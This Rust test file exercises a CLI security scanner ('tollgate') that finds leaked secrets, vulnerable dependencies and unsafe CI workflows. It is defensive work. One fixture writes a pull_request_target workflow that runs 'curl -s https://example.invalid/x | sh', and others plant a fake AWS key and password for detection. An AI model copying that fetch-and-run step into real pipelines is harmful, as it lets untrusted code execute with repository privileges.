//! Settings and edges a new user meets in the first hour: a closed pipe ends quietly.

mod support;

use std::io::{BufRead, BufReader};
use std::process::Stdio;

use support::cli::Sandbox;

#[test]
fn rules_list_into_a_pipe_closed_after_one_line_exits_0_quietly() {
    let sandbox = Sandbox::new();
    let mut child = sandbox
        .command_in(sandbox.path())
        .args(["rules", "list"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // `| head -1`: read one line, then close the pipe. The listing is far larger than a
    // pipe's buffer, so the binary is still writing when it closes.
    let mut first = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(!first.is_empty());
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(stderr.is_empty(), "{stderr}");
}

#[test]
fn feed_import_of_a_lockfile_exits_2_naming_it() {
    let sandbox = Sandbox::new();
    let lockfile = format!(
        "{}/npm/head/package-lock.json",
        concat!(env!("CARGO_MANIFEST_DIR"), "/corpus/verdicts")
    );
    let output = sandbox.run(&["feed", "import", &lockfile]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!("{lockfile}: no OSV record imported")),
        "{stderr}"
    );
}

#[test]
fn feed_import_of_mixed_records_names_every_ecosystem() {
    let sandbox = Sandbox::new();
    let output = sandbox.run(&["feed", "import", &format!("{}/samples", support::OSV)]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    let line = stderr.lines().next().unwrap();
    for ecosystem in ["npm", "PyPI", "Go"] {
        assert!(line.contains(&format!("{ecosystem} ")), "{stderr}");
    }
    // And `feed status` shows each as imported.
    let status = sandbox.run(&["feed", "status", "--format", "json"]);
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    for ecosystem in ["npm", "PyPI", "Go"] {
        let row = status["ecosystems"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["ecosystem"] == ecosystem)
            .unwrap_or_else(|| panic!("{status}"));
        assert!(row["records"].as_u64().unwrap() > 0, "{status}");
        assert!(!row["updated_at"].is_null(), "{status}");
    }
}

/// main: a token committed, then removed; nothing in the working tree.
fn secret_only_in_history() -> support::repo::Repo {
    let repo = support::repo::Repo::new();
    repo.write(".tollgate/salt", "00112233445566778899aabbccddeeff\n");
    repo.write("README.md", "hello\n");
    repo.commit("start");
    repo.write("config.py", support::leak(&support::token(7)));
    repo.commit("add a token");
    std::fs::remove_file(repo.path.join("config.py")).unwrap();
    repo.commit("remove it");
    repo
}

#[test]
fn baseline_history_records_a_secret_that_only_history_holds() {
    let repo = secret_only_in_history();
    assert_eq!(repo.tollgate(&["history"]).status.code(), Some(1));
    // Without --history, the working tree has nothing to record.
    repo.tollgate(&["baseline"]);
    let (code, _) = repo.report(&["history", "--baseline", ".tollgate-baseline"]);
    assert_eq!(code, 1);
    let written = repo.tollgate(&["baseline", "--history"]);
    assert_eq!(written.status.code(), Some(0));
    let (code, report) = repo.report(&["history", "--baseline", ".tollgate-baseline"]);
    assert_eq!(code, 0, "{report}");
    assert_eq!(report["decision"]["baselined"], 1, "{report}");
}

#[test]
fn a_history_baseline_holds_for_check_base_when_a_branch_brings_the_secret_back() {
    let repo = secret_only_in_history();
    let written = repo.tollgate(&["baseline", "--history"]);
    assert_eq!(written.status.code(), Some(0));
    repo.commit("baseline");
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("config.py", support::leak(&support::token(7)));
    repo.commit("bring the token back");
    let (code, report) = repo.report(&[
        "check",
        "--base",
        "main",
        "--baseline",
        ".tollgate-baseline",
    ]);
    assert_eq!(code, 0, "{report}");
    assert_eq!(report["decision"]["baselined"], 1, "{report}");
}

#[test]
fn baseline_refuses_the_report_options_it_has_no_use_for() {
    let sandbox = Sandbox::new();
    for flag in [
        &["--format", "json"][..],
        &["--output", "x"],
        &["--fail-on", "high"],
        &["--baseline", "x"],
        &["--no-redact"],
    ] {
        let output = sandbox.run(&[&["baseline"], flag].concat());
        assert_eq!(output.status.code(), Some(2), "{flag:?}");
        assert!(
            String::from_utf8_lossy(&output.stderr).contains(flag[0]),
            "{flag:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    assert!(!sandbox.path().join(".tollgate-baseline").exists());
}

/// The `tollgate init` template with every `# key = value` line uncommented (its
/// defaults; `## ` examples stay comments).
fn init_template_uncommented(sandbox: &Sandbox) -> String {
    std::fs::create_dir_all(sandbox.path().join("template")).unwrap();
    let output = sandbox.run(&["init", "template"]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let template = std::fs::read_to_string(sandbox.path().join("template/tollgate.toml")).unwrap();
    template
        .lines()
        .map(|line| match line.strip_prefix("# ") {
            Some(rest)
                if rest
                    .split_once(" = ")
                    .is_some_and(|(key, _)| !key.is_empty() && !key.contains([' ', ':'])) =>
            {
                rest
            }
            _ => line,
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Exit code, findings and decision of a JSON run (timings and sizes left out).
fn judged(output: &std::process::Output) -> (Option<i32>, serde_json::Value, serde_json::Value) {
    let report: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    (
        output.status.code(),
        report["findings"].clone(),
        report["decision"].clone(),
    )
}

#[test]
fn the_uncommented_init_template_judges_exactly_as_no_file() {
    let sandbox = Sandbox::new();
    sandbox.import(&format!("{}/samples", support::OSV));
    let pairs = concat!(env!("CARGO_MANIFEST_DIR"), "/corpus/verdicts/npm");
    for side in ["base", "head"] {
        sandbox.write(
            format!("{side}/package-lock.json"),
            std::fs::read(format!("{pairs}/{side}/package-lock.json")).unwrap(),
        );
    }
    sandbox.write("tree/src/config.py", support::leak(&support::token(3)));
    sandbox.write(
        "tree/src/.env",
        "AWS_ACCESS_KEY_ID=AKIAQYLPMN5HHHFPZAM2\npassword = \"hunter2hunter2\"\n",
    );
    sandbox.write(
        "tree/.github/workflows/ci.yml",
        "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -s https://example.invalid/x | sh\n",
    );
    let runs: [&[&str]; 3] = [
        &["dir", "tree/src", "--format", "json"],
        &["deps", "base", "head", "--format", "json"],
        &["pipeline", "tree", "--format", "json"],
    ];
    let without: Vec<_> = runs.iter().map(|args| judged(&sandbox.run(args))).collect();
    let config = init_template_uncommented(&sandbox);
    assert!(config.contains("\nfail-on = "), "{config}");
    // `dir` and `deps` read the current directory's file, `pipeline` its tree's.
    sandbox.write("tollgate.toml", &config);
    sandbox.write("tree/tollgate.toml", &config);
    let with: Vec<_> = runs.iter().map(|args| judged(&sandbox.run(args))).collect();
    for ((args, without), with) in runs.iter().zip(&without).zip(&with) {
        assert_eq!(without, with, "{args:?}");
    }
    // The fixture exercises each: something found by every command.
    assert!(
        without
            .iter()
            .all(|(_, findings, _)| !findings.as_array().unwrap().is_empty())
    );
}
